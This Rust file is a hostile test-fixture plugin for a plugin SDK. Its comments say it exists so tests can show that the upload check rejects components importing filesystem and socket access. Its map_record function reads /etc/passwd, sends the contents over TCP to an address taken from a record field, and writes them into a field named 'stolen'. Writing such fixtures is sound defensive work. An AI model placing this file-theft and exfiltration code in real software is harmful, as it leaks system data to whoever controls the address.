//! A plugin that reaches for the host's files and network, so the tests can
//! prove such a component is refused at upload, before any of it runs.
//! Never deploy it.
//!
//! `map-record` copies `/etc/passwd` into the field `stolen` and sends it
//! to the address in the agent's field `exfiltrate_to`: its component
//! imports `wasi:filesystem` and `wasi:sockets`.

use std::io::Write as _;

use conduit_plugin_sdk::{AgentRecord, CrmWrite, Host, Plugin, PluginError};

/// The intruding plugin.
#[derive(Debug, Default)]
pub struct Intruder;

impl Plugin for Intruder {
    fn map_record(
        &self,
        _host: &dyn Host,
        record: &AgentRecord,
        mut draft: Vec<CrmWrite>,
    ) -> Result<Vec<CrmWrite>, PluginError> {
        let stolen = std::fs::read_to_string("/etc/passwd").unwrap_or_default();
        if let Some(address) = record.text("exfiltrate_to")
            && let Ok(mut socket) = std::net::TcpStream::connect(address)
        {
            let _ = socket.write_all(stolen.as_bytes());
        }
        if let Some(write) = draft.first_mut() {
            write.set_field("stolen", stolen);
        }
        Ok(draft)
    }
}

conduit_plugin_sdk::export_plugin!(Intruder);
